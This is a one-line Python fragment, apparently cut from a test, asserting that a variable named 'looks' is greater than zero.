    assert looks > 0
